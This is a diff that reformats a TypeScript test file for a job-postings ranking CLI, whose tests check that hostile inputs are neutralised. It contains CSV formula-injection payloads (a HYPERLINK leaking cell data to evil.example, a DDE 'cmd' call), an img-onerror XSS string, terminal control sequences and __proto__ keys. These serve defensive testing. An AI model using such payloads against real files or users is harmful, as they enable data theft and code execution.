@@ -100,8 +100,9 @@ describe('check on keys named like prototype properties', () => {
   it('reports them as unknown keys and unknown references, the config one included', async () => {
     const result = await run(['check', 'p', '--format', 'json'], { cwd: `${PROTOTYPE_KEYS}/repo` });
     expect(result.code).toBe(1);
-    const found = (JSON.parse(result.stdout) as { diagnostics: { file: string; line: number; message: string }[] }).diagnostics
-      .map((d) => `${d.file}:${d.line} ${d.message}`);
+    const found = (JSON.parse(result.stdout) as { diagnostics: { file: string; line: number; message: string }[] }).diagnostics.map(
+      (d) => `${d.file}:${d.line} ${d.message}`,
+    );
     expect(found).toEqual([
       expect.stringMatching(/^curriculum\.config\.yaml:3 Unknown key "constructor" in "rules"; the known keys are "duplicate-id", /),
       expect.stringMatching(/^curriculum\.config\.yaml:4 Unknown key "__proto__" in "rules"; the known keys are "duplicate-id", /),
@@ -167,15 +168,16 @@ async function tempFile(name: string, content: Buffer | string): Promise<string>
 async function export_(rows: string[][]): Promise<string> {
   const file = path.join(await tempDir(), 'postings.csv');
   const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
-  await writeFile(file, rows.map((row) => row.map(cell).join(',')).join('\n') + '\n');
+  await writeFile(file, `${rows.map((row) => row.map(cell).join(',')).join('\n')}\n`);
   return file;
 }
 
 /** 40 dated postings of a career whose title and skills are formulas, fewer later than earlier (negative growth). */
 function formulaRows(): string[][] {
   const rows = [['title', 'skills', 'date_posted']];
-  for (let i = 0; i < 40; i++) rows.push(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1); -2+3', i < 25 ? '2024-01-01' : '2024-12-31']);
-  rows.push(['+cmd|\' /C calc\'!A0', '=1+1', '2024-06-01']);
+  for (let i = 0; i < 40; i++)
+    rows.push(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1); -2+3', i < 25 ? '2024-01-01' : '2024-12-31']);
+  rows.push(["+cmd|' /C calc'!A0", '=1+1', '2024-06-01']);
   rows.push(['@SUM(A1:A9)', 'sql', '2024-06-01']);
   return rows;
 }
@@ -197,7 +199,7 @@ describe('rank-jobs --format csv neutralises formulas', () => {
 
   it('neutralises the skills of --job too', async () => {
     const file = await export_(formulaRows());
-    const result = await run(['rank-jobs', file, '--job', '+cmd|\' /C calc\'!A0', '--format', 'csv']);
+    const result = await run(['rank-jobs', file, '--job', "+cmd|' /C calc'!A0", '--format', 'csv']);
     expect(result.stdout).toBe("skill,postings,share\n'=1+1,1,1\n");
   });
 
@@ -252,13 +254,18 @@ describe('rank-jobs --format md escapes Markdown and HTML', () => {
       expect(cells).toHaveLength(5);
       expect(cells.flatMap(bareActive)).toEqual([]);
     }
-    expect(rows.find((row) => row.includes('img'))).toMatch(/^\| \d \| \\<img src=x onerror=alert\(1\)\\> \| 1 \| 12\.5% \| \\<b\\>sql\\<\/b\\>; a\\\|b \|$/);
+    expect(rows.find((row) => row.includes('img'))).toMatch(
+      /^\| \d \| \\<img src=x onerror=alert\(1\)\\> \| 1 \| 12\.5% \| \\<b\\>sql\\<\/b\\>; a\\\|b \|$/,
+    );
     expect(rows.find((row) => row.includes('heading'))).toContain('| \\# heading |');
     expect(rows.find((row) => row.includes('script'))).toContain('| \\&lt;script\\&gt; dev |');
   });
 
-  it('escapes the title in the sentence above a career\'s skills', async () => {
-    const file = await export_([['title', 'skills'], ['<img src=x onerror=alert(1)>', '![x](http://evil.example/t.png)']]);
+  it("escapes the title in the sentence above a career's skills", async () => {
+    const file = await export_([
+      ['title', 'skills'],
+      ['<img src=x onerror=alert(1)>', '![x](http://evil.example/t.png)'],
+    ]);
     const result = await run(['rank-jobs', file, '--job', '<img src=x onerror=alert(1)>', '--format', 'md']);
     expect(result.stdout).toBe(
       '"\\<img src=x onerror=alert(1)\\>": 1 postings (rank 1, 100.0% of 1 postings).\n\n' +
@@ -284,7 +291,9 @@ describe('rank-jobs --format table shows control characters escaped', () => {
     const job = await run(['rank-jobs', 'postings.csv', '--job', title, '--format', 'table'], { cwd });
     expect(job.stdout + job.stderr).not.toMatch(ACTING);
     expect(job.stdout).toMatch(/^"\\x1b\[31manalyst\\x07 \\u202eevil": 1 postings/);
-    expect(job.stderr).toBe('Caveat: "\\x1b[31manalyst\\x07 \\u202eevil" has only 1 postings (fewer than 30); its skill shares are unreliable.\n');
+    expect(job.stderr).toBe(
+      'Caveat: "\\x1b[31manalyst\\x07 \\u202eevil" has only 1 postings (fewer than 30); its skill shares are unreliable.\n',
+    );
   });
 });
 
@@ -300,7 +309,7 @@ describe('rank-jobs shows control characters escaped on stderr', () => {
     );
   });
 
-  it('in commander\'s usage errors, which quote the arguments', async () => {
+  it("in commander's usage errors, which quote the arguments", async () => {
     const result = await run(['rank-jobs', 'x.csv', '--format', `${RED}x${BEL}`]);
     expect(result.code).toBe(2);
     expect(result.stderr).not.toMatch(ACTING);
@@ -378,7 +387,9 @@ describe('rank-jobs on hostile record shapes', () => {
     const file = await tempFile('wide.csv', `${names.join(',')}\n${row('data analyst', 'sql')}\n${row('nurse', 'first aid')}\n`);
     const result = await run(['rank-jobs', file, '--format', 'json']);
     expect(result.stderr).toBe('Caveat: 2 of the 2 careers shown have fewer than 30 postings; their shares and growth are unreliable.\n');
-    expect(JSON.parse(result.stdout).careers.map((c: { title: string; skills: { skill: string }[] }) => [c.title, c.skills[0]!.skill])).toEqual([
+    expect(
+      JSON.parse(result.stdout).careers.map((c: { title: string; skills: { skill: string }[] }) => [c.title, c.skills[0]!.skill]),
+    ).toEqual([
       ['data analyst', 'sql'],
       ['nurse', 'first aid'],
     ]);
